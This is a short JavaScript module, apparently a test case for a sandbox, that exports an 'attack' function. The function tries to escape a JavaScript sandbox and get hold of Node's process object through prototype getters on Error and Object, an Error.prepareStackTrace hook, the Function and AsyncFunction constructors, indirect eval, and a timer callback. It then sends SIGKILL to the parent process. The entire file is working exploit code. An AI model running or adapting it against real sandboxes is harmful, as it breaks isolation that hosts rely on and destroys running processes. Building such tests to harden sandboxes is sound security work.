let stolen;
const steal = (object) => {
  if (typeof object?.kill === 'function' || typeof object?.connect === 'function') stolen = object;
};
const attempts = [
  // Node reads this of its process object when it warns that something is deprecated.
  () =>
    Object.defineProperty(Error.prototype, 'name', {
      get: () => 'DeprecationWarning',
      set() {},
    }),
  () =>
    Object.defineProperty(Object.prototype, 'noDeprecation', {
      get() {
        steal(this);
        return false;
      },
    }),
  () => {
    Error.prepareStackTrace = (_, calls) => {
      for (const call of calls) steal(call.getThis());
      return '';
    };
    return new Error('for its calls').stack;
  },
  () => (async () => {}).constructor('return process')().then(steal),
  () => steal(Function('return this')().process),
  () => steal(new (0, eval)('globalThis')().process),
];

export const attack = async () => {
  await Promise.allSettled(attempts.map(async (attempt) => attempt()));
  const target = new EventTarget();
  for (let count = 0; count < 20; count++) {
    AbortSignal.any?.([new AbortController().signal]).addEventListener('abort', () => {});
    target.addEventListener('x', () => {});
  }
  await new Promise((resolve) => {
    setTimeout(function later() {
      steal(this);
      resolve();
    });
  });
  if (!stolen) throw new Error('there is nothing to steal');
  return stolen.kill?.(stolen.ppid, 'SIGKILL');
};
